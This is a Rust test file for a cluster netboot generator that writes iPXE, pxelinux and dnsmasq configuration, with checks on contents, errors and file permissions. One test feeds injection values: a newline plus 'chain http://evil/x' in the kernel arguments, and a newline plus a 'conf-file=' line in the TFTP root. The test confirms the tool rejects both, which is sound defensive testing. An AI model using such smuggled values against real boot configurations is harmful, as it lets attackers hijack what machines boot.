//! Tests of `srbuild cluster netboot` output (and `dnsmasq --test` on it
//! where dnsmasq is installed).

use srbuild_cluster::netboot::{write_netboot, NetbootOptions};
use srbuild_cluster::Cluster;
use std::path::Path;

const SAMPLE: &str = include_str!("common_sample.toml");

fn setup() -> (tempfile::TempDir, Cluster, NetbootOptions) {
    let dir = tempfile::tempdir().unwrap();
    let kernel = dir.path().join("bzImage");
    let initrd = dir.path().join("my-initrd.cpio.gz");
    std::fs::write(&kernel, b"KERNEL").unwrap();
    std::fs::write(&initrd, b"INITRD").unwrap();
    let c = Cluster::parse(SAMPLE, Path::new("cluster.toml")).unwrap();
    let opts = NetbootOptions {
        outdir: dir.path().join("tftp"),
        kernel,
        initrd,
        append: Some("root=nfs:10.77.0.1:/srv/root ro".into()),
        tftp_root: None,
        http_base: None,
    };
    (dir, c, opts)
}

#[test]
fn writes_all_files() {
    let (_d, c, opts) = setup();
    let files = write_netboot(&c, &opts).unwrap();
    let out = &opts.outdir;
    assert!(files.contains(&out.join("dnsmasq.conf")));
    let read = |p: &str| std::fs::read_to_string(out.join(p)).unwrap();
    assert_eq!(read("vmlinuz"), "KERNEL");
    assert_eq!(read("initrd.img"), "INITRD");

    let ipxe = read("ipxe/node1.ipxe");
    assert!(ipxe.starts_with("#!ipxe\n"), "{ipxe}");
    assert!(ipxe.contains("\nkernel /vmlinuz initrd=initrd.img root=nfs:10.77.0.1:/srv/root ro srbuild.node=node1 console=ttyS0\n"), "{ipxe}");
    assert!(
        ipxe.contains("\ninitrd /initrd.img\n") && ipxe.ends_with("boot\n"),
        "{ipxe}"
    );
    assert!(read("ipxe/node2.ipxe").contains("srbuild.node=node2\n"));
    assert!(read("boot.ipxe").contains("chain /ipxe/${hostname}.ipxe"));

    let pxe = read("pxelinux.cfg/01-52-54-00-77-00-11");
    assert!(pxe.contains("DEFAULT srbuild\nLABEL srbuild\n  KERNEL vmlinuz\n  INITRD initrd.img\n  APPEND root=nfs:10.77.0.1:/srv/root ro srbuild.node=node1 console=ttyS0\n"), "{pxe}");
    // node2 has two MACs: one file each
    assert!(out.join("pxelinux.cfg/01-52-54-00-77-00-12").is_file());
    assert!(out.join("pxelinux.cfg/01-52-54-00-77-01-12").is_file());

    let conf = read("dnsmasq.conf");
    let abs = std::path::absolute(out).unwrap();
    for want in [
        "enable-tftp".to_string(),
        format!("tftp-root={}", abs.display()),
        "dhcp-range=set:net_lan,10.77.0.0,static,255.255.255.0".into(),
        "dhcp-option=tag:net_lan,option:router,10.77.0.254".into(),
        "dhcp-option=tag:net_lan,option:dns-server,10.77.0.1".into(),
        "dhcp-host=52:54:00:77:00:11,10.77.0.11,node1".into(),
        "dhcp-host=52:54:00:77:00:12,10.77.0.12,node2".into(),
        "dhcp-host=52:54:00:77:01:12,node2".into(),
        "dhcp-match=set:ipxe,175".into(),
        "dhcp-boot=tag:!ipxe,pxelinux.0".into(),
        "dhcp-boot=tag:ipxe,boot.ipxe".into(),
    ] {
        assert!(
            conf.lines().any(|l| l == want),
            "missing line {want} in\n{conf}"
        );
    }
}

#[test]
fn tftp_root_override_and_no_networks() {
    let (_d, _c, mut opts) = setup();
    let c = Cluster::parse(
        "[cluster]\nname = \"x\"\n[[node]]\nname = \"a\"\nid = 1\nmacs = [\"52:54:00:00:00:01\"]\naddresses = [\"192.168.7.5/16\"]\n",
        Path::new("c.toml"),
    )
    .unwrap();
    opts.tftp_root = Some("/srv/tftp".into());
    opts.append = None;
    write_netboot(&c, &opts).unwrap();
    let conf = std::fs::read_to_string(opts.outdir.join("dnsmasq.conf")).unwrap();
    assert!(conf.contains("tftp-root=/srv/tftp\n"), "{conf}");
    assert!(
        conf.contains("dhcp-range=192.168.0.0,static,255.255.0.0\n"),
        "{conf}"
    );
    let ipxe = std::fs::read_to_string(opts.outdir.join("ipxe/a.ipxe")).unwrap();
    assert!(
        ipxe.contains("kernel /vmlinuz initrd=initrd.img srbuild.node=a\n"),
        "{ipxe}"
    );
}

#[test]
fn missing_kernel_is_an_error() {
    let (_d, c, mut opts) = setup();
    opts.kernel = "/nonexistent/vmlinuz".into();
    let e = write_netboot(&c, &opts).unwrap_err().to_string();
    assert!(
        e.contains("/nonexistent/vmlinuz") && e.contains("--kernel"),
        "{e}"
    );
}

#[test]
fn dnsmasq_accepts_snippet() {
    let dnsmasq = Path::new("/usr/sbin/dnsmasq");
    if !dnsmasq.exists() {
        println!("skipped: /usr/sbin/dnsmasq not installed (apt-get install -y dnsmasq-base)");
        return;
    }
    let (_d, c, opts) = setup();
    write_netboot(&c, &opts).unwrap();
    let conf = opts.outdir.join("dnsmasq.conf");
    let out = std::process::Command::new(dnsmasq)
        .arg("--test")
        .arg(format!("--conf-file={}", conf.display()))
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "dnsmasq --test failed: {text}");
    assert!(text.contains("syntax check OK"), "{text}");
}

#[test]
fn append_and_tftp_root_cannot_add_lines() {
    let (_d, c, mut opts) = setup();
    opts.append = Some("ro\nchain http://evil/x".into());
    let e = write_netboot(&c, &opts).unwrap_err().to_string();
    assert!(e.contains("--append") && e.contains("'\\n'"), "{e}");
    assert!(!opts.outdir.exists(), "nothing written");
    opts.append = None;
    opts.tftp_root = Some("/srv/tftp\nconf-file=/tmp/x".into());
    let e = write_netboot(&c, &opts).unwrap_err().to_string();
    assert!(e.contains("--tftp-root"), "{e}");
}

#[test]
fn a_private_image_is_served_world_readable() {
    use std::os::unix::fs::PermissionsExt;
    let (_d, c, opts) = setup();
    // srbuild writes images 0600; dnsmasq's TFTP refuses such files ("Permission denied").
    std::fs::set_permissions(&opts.initrd, std::fs::Permissions::from_mode(0o600)).unwrap();
    write_netboot(&c, &opts).unwrap();
    for f in ["initrd.img", "vmlinuz"] {
        let mode = std::fs::metadata(opts.outdir.join(f))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o644, "{f}");
    }
    // The source keeps its own mode.
    let mode = std::fs::metadata(&opts.initrd)
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn a_link_to_the_source_in_the_output_is_replaced_not_chmod_ed_through() {
    use std::os::unix::fs::PermissionsExt;
    let (_d, c, opts) = setup();
    std::fs::set_permissions(&opts.initrd, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::create_dir_all(&opts.outdir).unwrap();
    std::os::unix::fs::symlink(&opts.initrd, opts.outdir.join("initrd.img")).unwrap();
    write_netboot(&c, &opts).unwrap();
    let served = opts.outdir.join("initrd.img");
    let m = std::fs::symlink_metadata(&served).unwrap();
    assert!(m.is_file(), "the link was kept");
    assert_eq!(m.permissions().mode() & 0o777, 0o644);
    assert_eq!(std::fs::read(&served).unwrap(), b"INITRD");
    // The private source keeps its mode.
    let mode = std::fs::metadata(&opts.initrd)
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
}
